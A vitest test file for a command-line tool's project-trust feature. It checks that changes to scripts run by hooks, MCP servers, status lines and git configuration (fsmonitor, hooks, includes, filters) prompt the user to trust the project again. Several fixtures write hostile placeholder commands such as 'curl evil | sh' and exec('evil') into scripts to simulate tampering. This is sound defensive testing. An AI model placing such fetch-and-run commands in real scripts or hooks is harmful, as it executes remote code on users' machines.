/**
 * Trust covers the code a trusted configuration runs: the repository files a
 * hook or MCP server names (and the tracked files beside them) and the
 * programs of the repository's git configuration. A change to any of them
 * asks again; files the command only writes or reads as data do not.
 */
import { execFileSync } from "node:child_process";
import {
    mkdirSync,
    mkdtempSync,
    realpathSync,
    rmSync,
    symlinkSync,
    utimesSync,
    writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import {
    type TrustInventory,
    settleProjectTrust,
    summarizeInventory,
} from "../../src/cli/project-trust";
import { createTrustStore, readProjectConfig } from "../../src/storage/trust";
import { MAX_SCRIPT_BYTES_READ } from "../../src/storage/trust-scripts";

let repo: string;
let data: string;
let outside: string;
beforeEach(() => {
    repo = realpathSync(mkdtempSync(join(tmpdir(), "north-trust-scripts-")));
    data = mkdtempSync(join(tmpdir(), "north-trust-scripts-data-"));
    outside = realpathSync(mkdtempSync(join(tmpdir(), "north-trust-outside-")));
});
afterEach(() => {
    for (const dir of [repo, data, outside]) rmSync(dir, { recursive: true, force: true });
});

function put(path: string, value: unknown): void {
    mkdirSync(dirname(join(repo, path)), { recursive: true });
    writeFileSync(join(repo, path), typeof value === "string" ? value : JSON.stringify(value));
}

function git(...args: string[]): void {
    execFileSync("git", ["-c", "init.defaultBranch=main", ...args], {
        cwd: repo,
        stdio: "ignore",
    });
}

/** `.north/settings.json` with one SessionStart hook running `command`. */
function hook(command: string): void {
    put(".north/settings.json", {
        hooks: { SessionStart: [{ hooks: [{ type: "command", command }] }] },
    });
}

function mcpServer(command: string, args: string[]): void {
    put(".mcp.json", { mcpServers: { tools: { command, args } } });
}

/** Settles trust once; returns whether the user was asked and what was shown. */
async function settle(answer: "trust" | "untrusted" = "untrusted") {
    let shown: TrustInventory | undefined;
    const decision = await settleProjectTrust(repo, createTrustStore(data), async (inventory) => {
        shown = inventory;
        return answer;
    });
    return { asked: shown !== undefined, shown, trusted: decision.trusted };
}

const lines = (inventory: TrustInventory | undefined): string[] =>
    (inventory?.items ?? []).map((i) => `${i.kind} ${i.source}: ${i.text}`);

describe("the files a trusted hook or MCP server runs", () => {
    it("a hook's script changed after trust is asked again, and the question names the script", async () => {
        put("scripts/setup.sh", "echo one\n");
        hook("sh scripts/setup.sh");
        expect((await settle("trust")).asked).toBe(true);
        expect((await settle()).asked).toBe(false);

        put("scripts/setup.sh", "curl evil | sh\n");
        const again = await settle();
        expect(again.asked).toBe(true);
        expect(again.trusted).toBe(false);
        // Only what changed is marked: the hook line itself is as trusted.
        expect(lines(again.shown)).toEqual([
            "hook .north/settings.json: SessionStart: runs sh scripts/setup.sh",
            "script .north/settings.json: scripts/setup.sh (changed since you trusted this project)",
        ]);
    });

    it("a status-line command's script changed after trust is asked again", async () => {
        put("scripts/status.sh", "echo main\n");
        put(".claude/settings.json", {
            statusLine: { type: "command", command: "sh scripts/status.sh" },
        });
        expect((await settle("trust")).asked).toBe(true);
        expect((await settle()).asked).toBe(false);

        put("scripts/status.sh", "curl evil | sh\n");
        const again = await settle();
        expect(again.asked).toBe(true);
        expect(again.trusted).toBe(false);
        expect(lines(again.shown)).toContain(
            "script .claude/settings.json: scripts/status.sh (changed since you trusted this project)"
        );
    });

    it("an MCP server's script and a tracked helper beside it count; an untracked file there does not", async () => {
        git("init", "-q");
        put("tools/mcp.js", "require('./lib/util.js');\n");
        put("tools/lib/util.js", "module.exports = 1;\n");
        mcpServer("node", ["tools/mcp.js"]);
        git("add", "tools");
        await settle("trust");
        expect(lines((await settle("trust")).shown)).toEqual([]);

        // A build output or scratch file nobody tracks is not what runs.
        put("tools/scratch.js", "anything\n");
        put("tools/lib/out.log", "log\n");
        expect((await settle()).asked).toBe(false);

        put("tools/lib/util.js", "require('child_process').exec('evil');\n");
        const again = await settle();
        expect(again.asked).toBe(true);
        expect(lines(again.shown)).toContain(
            "script .mcp.json: tools/mcp.js and 1 more tracked file in tools/ (changed since you trusted this project)"
        );
        expect(summarizeInventory(again.shown!)).toBe(
            "1 MCP server (.mcp.json), 1 script (.mcp.json)"
        );
    });

    it("without git, every file beside the script counts (a bounded walk)", async () => {
        put("tools/mcp.js", "x\n");
        mcpServer("node", ["tools/mcp.js"]);
        await settle("trust");
        put("tools/new-helper.js", "y\n");
        expect((await settle()).asked).toBe(true);
    });

    it("python -m resolves the package's __main__.py and a module file within the project", async () => {
        put("tools/pkg/__main__.py", "print(1)\n");
        put("single.py", "print(1)\n");
        hook("python3 -m tools.pkg && uv run python -m single");
        const first = await settle("trust");
        expect(lines(first.shown)).toEqual(
            expect.arrayContaining([
                "script .north/settings.json: tools/pkg/__main__.py",
                "script .north/settings.json: single.py",
            ])
        );
        put("tools/pkg/__main__.py", "import os; os.system('evil')\n");
        expect((await settle()).asked).toBe(true);
        await settle("trust");
        put("single.py", "import os\n");
        expect((await settle()).asked).toBe(true);
    });

    it("reads the words of -c bodies, wrappers and ${CLAUDE_PROJECT_DIR} paths", async () => {
        put(".claude/hooks/check.sh", "a\n");
        put("scripts/inner.ts", "b\n");
        put("bin/run", "c\n");
        put("tools/x.py", "d\n");
        put(".claude/settings.json", {
            hooks: {
                PreToolUse: [
                    {
                        matcher: "Bash",
                        hooks: [
                            {
                                type: "command",
                                command: '"${CLAUDE_PROJECT_DIR}"/.claude/hooks/check.sh',
                            },
                            {
                                type: "command",
                                command: "bash -lc 'cd . && npx tsx scripts/inner.ts'",
                            },
                            { type: "command", command: "timeout 5 ./bin/run --fast" },
                            { type: "command", command: "${PYTHON:-python3} tools/x.py" },
                        ],
                    },
                ],
            },
        });
        await settle("trust");
        for (const file of [
            ".claude/hooks/check.sh",
            "scripts/inner.ts",
            "bin/run",
            "tools/x.py",
        ]) {
            put(file, "changed\n");
            expect((await settle()).asked, file).toBe(true);
            await settle("trust");
        }
    });

    it("resolves words from where an earlier cd in the same command line moved", async () => {
        put("tools/pkg/__main__.py", "print(1)\n");
        put("server/index.js", "x\n");
        hook("cd tools && python3 -m pkg; sh -c 'cd ../server && node index.js'");
        await settle("trust");
        for (const file of ["tools/pkg/__main__.py", "server/index.js"]) {
            put(file, "changed\n");
            expect((await settle()).asked, file).toBe(true);
            await settle("trust");
        }
    });

    it("past the byte budget a file beside the script is compared by size and time, and says so", async () => {
        put("tools/mcp.js", "x\n");
        const big = join(repo, "tools", "model.bin");
        writeFileSync(big, Buffer.alloc(MAX_SCRIPT_BYTES_READ + 1, 1));
        utimesSync(big, 1_000_000, 1_000_000);
        mcpServer("node", ["tools/mcp.js"]);
        const first = await settle("trust");
        expect(lines(first.shown).find((l) => l.startsWith("script"))).toContain(
            "files are checked by size and time"
        );
        writeFileSync(big, Buffer.alloc(MAX_SCRIPT_BYTES_READ + 1, 2));
        utimesSync(big, 1_000_000, 1_000_000);
        expect((await settle()).asked).toBe(false);
        utimesSync(big, 2_000_000, 2_000_000);
        expect((await settle()).asked).toBe(true);
    });

    it("files a command only writes or reads as data do not count", async () => {
        put("marker.txt", "");
        put("hook.log", "");
        put("notes/data.json", "{}");
        hook("touch marker.txt; echo ran >> hook.log; cat notes/data.json 2>/dev/null");
        await settle("trust");
        put("marker.txt", "touched");
        put("hook.log", "ran\nran\n");
        put("notes/data.json", '{"a":1}');
        expect((await settle()).asked).toBe(false);
    });

    it("a script at the project root brings only itself, not the whole project", async () => {
        put("setup.sh", "echo\n");
        put("README.md", "readme\n");
        hook("sh ./setup.sh");
        await settle("trust");
        put("README.md", "edited\n");
        expect((await settle()).asked).toBe(false);
        put("setup.sh", "evil\n");
        expect((await settle()).asked).toBe(true);
    });

    it("a script outside the project (an absolute path, or a link leading out) is listed, not fingerprinted", async () => {
        writeFileSync(join(outside, "tool.sh"), "echo 1\n");
        mkdirSync(join(repo, "scripts"));
        symlinkSync(join(outside, "tool.sh"), join(repo, "scripts", "linked.sh"));
        hook(`sh ${join(outside, "tool.sh")} && bash scripts/linked.sh`);
        const first = await settle("trust");
        expect(lines(first.shown)).toContain(
            `script .north/settings.json: ${join(outside, "tool.sh")} (outside the project: not checked for changes)`
        );
        expect(lines(first.shown).filter((l) => l.startsWith("script"))).toHaveLength(1);
        writeFileSync(join(outside, "tool.sh"), "echo 2\n");
        expect((await settle()).asked).toBe(false);
    });
});

describe("programs of the repository's git configuration", () => {
    it("shows a .git/config fsmonitor beside the project's hooks, and a change to it asks again", async () => {
        git("init", "-q");
        put("scripts/setup.sh", "echo\n");
        hook("sh scripts/setup.sh");
        git("config", "core.fsmonitor", "./watch.sh");
        const first = await settle("trust");
        expect(lines(first.shown)).toContain("git .git/config: core.fsmonitor = ./watch.sh");
        expect((await settle()).asked).toBe(false);

        git("config", "core.fsmonitor", "./other.sh");
        const again = await settle();
        expect(again.asked).toBe(true);
        expect(lines(again.shown)).toContain(
            "git .git/config: core.fsmonitor = ./other.sh (new since you trusted this project)"
        );
        expect(lines(again.shown)).toContain("script .north/settings.json: scripts/setup.sh");
        // Declining skips the hook and its script; git's own programs are not North's to skip.
        expect(summarizeInventory(again.shown!)).toBe(
            "1 hook (.north/settings.json), 1 script (.north/settings.json)"
        );
    });

    it("a non-sample git hook added after trust asks again; a sample does not", async () => {
        git("init", "-q");
        put(".mcp.json", { mcpServers: { s: { command: "npx", args: ["-y", "server"] } } });
        await settle("trust");
        writeFileSync(join(repo, ".git", "hooks", "post-checkout.sample"), "#!/bin/sh\n");
        expect((await settle()).asked).toBe(false);
        writeFileSync(join(repo, ".git", "hooks", "post-checkout"), "#!/bin/sh\nevil\n");
        const again = await settle();
        expect(again.asked).toBe(true);
        expect(lines(again.shown)).toContain(
            "git .git/hooks/post-checkout: a git hook: git runs it by itself (new since you trusted this project)"
        );
    });

    it("lists the hooks of a core.hooksPath inside the project (husky) and marks a changed one", async () => {
        git("init", "-q");
        put(".husky/pre-commit", "npm test\n");
        git("config", "core.hooksPath", ".husky");
        put(".north/allowlist.json", { allowedCommands: ["make"] });
        const first = await settle("trust");
        expect(lines(first.shown)).toEqual(
            expect.arrayContaining([
                "git .git/config: core.hookspath = .husky",
                "git .husky/pre-commit: a git hook: git runs it by itself",
            ])
        );
        put(".husky/pre-commit", "curl evil | sh\n");
        const again = await settle();
        expect(again.asked).toBe(true);
        expect(lines(again.shown)).toContain(
            "git .husky/pre-commit: a git hook: git runs it by itself (changed since you trusted this project)"
        );
    });

    it("follows an include inside the project, lists one outside, and reads a .git file's gitdir", async () => {
        mkdirSync(join(repo, "real.git"));
        // A link inside the project that leads out is not followed.
        writeFileSync(join(outside, "x.gitconfig"), "[core]\n\tpager = mine\n");
        symlinkSync(join(outside, "x.gitconfig"), join(repo, "linked.gitconfig"));
        writeFileSync(join(repo, ".git"), "gitdir: real.git\n");
        writeFileSync(
            join(repo, "real.git", "config"),
            '[include]\n\tpath = ../shared.gitconfig\n\tpath = ~/elsewhere.gitconfig\n\tpath = ../linked.gitconfig\n[diff "bin"]\n\ttextconv = "./conv.sh"  # comment\n'
        );
        put("shared.gitconfig", '[filter "x"]\n\tsmudge = ./smudge.sh %f\n');
        put(".north/allowlist.json", { allowedCommands: ["make"] });
        const first = await settle("trust");
        const git = lines(first.shown).filter((l) => l.startsWith("git "));
        expect(git).toEqual([
            "git real.git/config: include.path = ../shared.gitconfig",
            "git shared.gitconfig: filter.x.smudge = ./smudge.sh %f",
            "git real.git/config: include.path = ~/elsewhere.gitconfig (outside the project: not checked)",
            "git real.git/config: include.path = ../linked.gitconfig (outside the project: not checked)",
            "git real.git/config: diff.bin.textconv = ./conv.sh",
        ]);
        put("shared.gitconfig", '[filter "x"]\n\tsmudge = ./evil.sh %f\n');
        expect((await settle()).asked).toBe(true);
    });

    it("git programs alone ask nothing: declining would switch nothing off", async () => {
        git("init", "-q");
        git("config", "core.fsmonitor", "./watch.sh");
        expect((await settle()).asked).toBe(false);
        expect(readProjectConfig(repo).fingerprint).toBeNull();
        // Nor beside gated files that configure nothing.
        put(".north/settings.json", {});
        expect((await settle()).asked).toBe(false);
    });
});
